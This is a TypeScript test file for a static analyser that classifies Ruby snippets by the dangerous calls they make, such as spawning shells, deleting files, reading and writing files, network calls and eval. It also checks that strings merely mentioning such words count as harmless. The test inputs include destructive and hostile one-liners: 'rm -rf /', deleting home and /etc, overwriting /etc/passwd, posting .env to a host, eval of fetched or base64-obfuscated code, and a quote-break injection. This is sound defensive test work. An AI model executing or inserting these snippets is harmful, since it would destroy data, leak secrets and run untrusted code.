import { describe, expect, it } from "vitest";
import { callsOf, read } from "./reading.ts";

type Case = readonly [code: string, calls: readonly string[]];

const STARTS_PROCESSES: readonly Case[] = [
  ["x = ?'; system('id') #'", ["shell id"]],
  ["Object.const_get(:Kernel).system('id')", ["shell id"]],
  ['system("rm -rf /")', ["shell rm -rf /"]],
  ['system "rm", "-rf", "/"', ["spawn rm -rf /"]],
  ["`rm -rf /`", ["shell rm -rf /"]],
  ["%x(rm -rf /)", ["shell rm -rf /"]],
  ["exec 'rm -rf /'", ["shell rm -rf /"]],
  ['system({"A" => "1"}, "rm", "-rf", "x", chdir: "/")', ["spawn rm -rf x (in /)"]],
  ["Kernel.system('id')", ["shell id"]],
  ["Kernel.send(:system, 'rm -rf /')", ["shell rm -rf /"]],
  ['send("sys" + "tem", "rm -rf /")', ["shell rm -rf /"]],
  ["method(:system).call('id')", ["shell id"]],
  ["Open3.capture3('rm', '-rf', '/')", ["spawn rm -rf /"]],
  ["IO.popen(['rm', '-rf', '/'])", ["spawn rm -rf /"]],
  ["IO.popen('id').read", ["shell id"]],
  ["open('|rm -rf /')", ["shell rm -rf /"]],
  ["d = '/'\nsystem \"rm -rf #{d}\"", ["shell rm -rf /"]],
  ["system('id') if x", ["shell id"]],
  ["eval(\"system('rm -rf /')\")", ["shell rm -rf /"]],
  ["x = `id`.strip", ["shell id"]],
  ["while true do\n  system('ls')\nend", ["shell ls"]],
  [
    "begin\n  system('id')\nrescue => e\n  system('ls')\nensure\n  system('pwd')\nend",
    ["shell id", "shell ls", "shell pwd"],
  ],
  ["case x\nwhen 1 then system('id')\nelse system('ls')\nend", ["shell id", "shell ls"]],
];

const DELETES: readonly Case[] = [
  ["def home\n  return Dir.home\nend\nFileUtils.rm_rf(home())", ["delete -r /home/me"]],
  ["def f(d)\n  return if d == 'a'\n  FileUtils.rm_rf(d)\nend\nf('/etc')", ["delete -r /etc"]],
  ["require 'fileutils'; FileUtils.rm_rf(Dir.home)", ["delete -r /home/me"]],
  ['FileUtils.rm_rf "#{Dir.home}/docs"', ["delete -r /home/me/docs"]],
  ["include FileUtils; rm_rf '/'", ["delete -r /"]],
  ["%w[a /].each { |d| FileUtils.rm_rf(d) }", ["delete -r a", "delete -r /"]],
  ["['a', 'b'].each do |d|\n  FileUtils.rm_rf d\nend", ["delete -r a", "delete -r b"]],
  ["File.delete('a') if File.exist?('a')", ["delete a"]],
  ["Dir['*.log'].each { |f| File.delete(f) }", ["delete *.log"]],
  ["Dir.glob('**/*.tmp') { |f| File.delete f }", ["delete **/*.tmp"]],
  ["def clean(d)\n  FileUtils.rm_rf(d)\nend\nclean('/etc')", ["delete -r /etc"]],
  ["def clean(d = '/etc') = FileUtils.rm_rf(d)\nclean", ["delete -r /etc"]],
  ["Dir.chdir('/') { FileUtils.rm_rf 'etc' }", ["directory /", "delete -r /etc"]],
  ["FileUtils.rm_rf(Dir.mktmpdir)", ["delete -r /tmp/#"]],
  ["dir = ENV['HOME']; FileUtils.rm_r dir, force: true", ["delete -r /home/me"]],
  ["FileUtils.rm_rf(File.expand_path('~/x'))", ["delete -r /home/me/x"]],
  ["FileUtils.rm_rf(x ? 'a' : '/')", ["delete -r a", "delete -r /"]],
  ["Pathname.new('/').rmtree", ["delete -r /"]],
  ["FileUtils.rm_rf(File.join(Dir.pwd, 'x'))", ["delete -r /home/me/work/x"]],
  ["ARGV.each { |a| FileUtils.rm_rf a }", ["delete -r ?"]],
];

const READS_WRITES_AND_RUNS_WHAT_IS_NOT_ITS_OWN: readonly Case[] = [
  ["File.open('/etc/passwd', 'w') { |f| f.puts 'x' }", ["write /etc/passwd", "append /etc/passwd = x"]],
  ["File.write('a', 'b')", ["write a = b"]],
  ["puts File.read('.env')", ["read .env"]],
  ["Net::HTTP.post(URI('http://x'), File.read('.env'))", ["read .env", "network http://x <- ?[file .env]"]],
  ["require 'open-uri'; eval(URI.open('http://x').read)", ["network http://x", "evaluate ruby: ?[network]"]],
  [
    "eval(Base64.decode64('c3lzdGVtKCJybSAtcmYgLyIp'))",
    ["shell rm -rf /", 'evaluate ruby: system("rm -rf /")[decoded]'],
  ],
  [
    "eval('c3lzdGVtKCJybSAtcmYgLyIp'.unpack1('m'))",
    ["shell rm -rf /", 'evaluate ruby: system("rm -rf /")[decoded]'],
  ],
  ["FileUtils.mv 'a', 'b'", ["move a -> b"]],
];

const HARMLESS: readonly string[] = [
  "puts \"system('rm -rf /')\"",
  "# system('rm -rf /')\nputs 1",
  "x = 'rm -rf /'; puts x",
  "=begin\nsystem('rm -rf /')\n=end\nputs 1",
  'x = <<~EOS\n  system("rm -rf /")\nEOS\nputs x',
  "puts %w[rm -rf /].inspect",
  "p(/system\\('rm'\\)/)",
  "a = 5 / 2 # / system('x')",
  "it 'refuses rm -rf /' do\n  expect(judge('rm -rf /')).to eq :deny\nend",
  "h = { system: 'rm -rf /', 'exec' => 1 }",
  "puts :system, %q(exec 'x')",
  'logger.info "rm -rf #{dir}"',
  "raise ArgumentError, 'FileUtils.rm_rf' unless ok",
  "puts 'a' 'b'",
  "$stdin.each_line { |l| puts l if l =~ /rm -rf/ }",
];

describe("Ruby code", () => {
  describe("starts processes", () => {
    it.each(STARTS_PROCESSES)("%j", (code, calls) => {
      expect(callsOf("ruby", code)).toEqual(calls);
    });
  });

  describe("deletes", () => {
    it.each(DELETES)("%j", (code, calls) => {
      expect(callsOf("ruby", code)).toEqual(calls);
    });
  });

  describe("reads, writes and runs what is not its own", () => {
    it.each(READS_WRITES_AND_RUNS_WHAT_IS_NOT_ITS_OWN)("%j", (code, calls) => {
      expect(callsOf("ruby", code)).toEqual(calls);
    });
  });

  describe("prints and stores dangerous words, which is nothing", () => {
    it.each(HARMLESS)("%j", code => {
      expect(callsOf("ruby", code)).toEqual([]);
      expect(read("ruby", code).isComplete).toBe(true);
    });
  });
});
